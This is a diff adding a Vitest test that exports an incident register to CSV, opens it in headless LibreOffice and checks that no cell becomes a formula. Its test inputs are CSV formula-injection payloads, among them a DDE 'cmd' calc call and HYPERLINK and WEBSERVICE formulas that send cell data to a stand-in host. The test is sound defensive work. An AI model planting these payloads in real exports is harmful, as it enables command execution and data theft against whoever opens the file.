@@ -1,0 +1,80 @@
+// The register's CSV opened by a real office program: nothing anybody wrote into an entry is taken for a formula, and no entry is lost.
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { afterAll, describe, expect, it } from 'vitest';
+import { toCsv } from '../../incidents/export.ts';
+import { rowsOf } from '../../incidents/views.ts';
+import { incidentEntry, reportEntry, t } from './entries.ts';
+
+const program = '/usr/bin/soffice';
+const folder = mkdtempSync(join(tmpdir(), 'gatehouse-csv-'));
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+const formulas = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '=WEBSERVICE("http://elsewhere.example")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1',
+  'a","=1+1',
+  'a\n=1+1',
+  'a;=1+1',
+];
+
+/** The sheet as the program has it, as flat XML. */
+function opened(csv: string, name: string): string {
+  const path = join(folder, `${name}.csv`);
+  writeFileSync(path, csv);
+  const profile = pathToFileURL(join(folder, 'profile')).href;
+  // 44: comma, 34: quotes, 76: UTF-8; formulas are evaluated, as when somebody opens the file by hand.
+  const filter = '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true';
+  const args = [
+    '--headless',
+    `-env:UserInstallation=${profile}`,
+    filter,
+    '--convert-to',
+    'fods',
+    '--outdir',
+    folder,
+    path,
+  ];
+  const { status, stderr } = spawnSync(program, args, { encoding: 'utf8', timeout: 180_000 });
+  if (status !== 0) throw new Error(`soffice: ${stderr.slice(-300)}`);
+  return readFileSync(join(folder, `${name}.fods`), 'utf8');
+}
+
+describe.skipIf(!existsSync(program))('the CSV in LibreOffice', () => {
+  it('has a formula where one is written raw: what this looks for can be found', { timeout: 200_000 }, () => {
+    expect(opened('a,b\n=1+1,x\n', 'raw')).toMatch(/table:formula=/);
+  });
+
+  it('has none in any field anybody can write, and every entry', { timeout: 200_000 }, () => {
+    const entries = formulas.flatMap((formula, index) => [
+      incidentEntry(2 * index + 1, {
+        actor: { value: formula, from: 'account' },
+        extensionVersion: formula.slice(0, 40),
+        policy: { version: formula.slice(0, 60), hash: 'ab'.repeat(32), source: 'managed' },
+        reason: { code: 'other', text: formula },
+        recipients: { count: 1, domains: [formula], fingerprints: [], addresses: [formula] },
+        place: { webmail: formula, host: formula },
+      }),
+      reportEntry(2 * index + 2, { what: formula, when: formula, actor: { value: formula, from: 'policy' } }),
+    ]);
+    const rows = rowsOf(entries.map((entry) => ({ entry })));
+    const sheet = opened(toCsv(rows, t), 'register');
+    expect(sheet).not.toMatch(/table:formula=/);
+    const text = sheet.replaceAll(/<[^>]+>/g, '\n');
+    for (const { id } of rows) expect(text, id).toContain(id);
+    expect(rows).toHaveLength(2 * formulas.length);
+  });
+});
